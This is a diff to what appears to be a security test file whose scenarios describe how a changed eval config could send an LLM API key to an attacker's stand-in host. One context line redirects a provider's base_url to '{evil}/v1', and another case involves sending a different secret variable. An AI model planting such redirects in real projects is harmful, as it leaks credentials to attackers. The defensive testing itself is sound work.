@@ -135,6 +135,10 @@ KEY_DESTINATIONS = {
             "vars: {q: 'question 0'}}", "vars: {q: 'question 0'}, assert: [{type: llm-rubric, value: ok, "
             f"provider: {{type: openai, model: m, base_url: '{evil}/v1'}}}}]}}")},
     "api-key-env": lambda evil: {},  # the head keeps the base's host but sends another variable
+    "agentmark-provider-prefix": lambda evil: {  # a provider type the base's config does not define
+        "q.prompt.mdx": ("---\ntext_config:\n  model_name: anthropic/claude-opus-4\ntest_settings:\n"
+                         "  evals: [exact_match]\n  cases: [{input: {q: hi}, expected_output: hi}]\n---\n"
+                         "<User>{props.q}</User>\n")},
 }
 
 
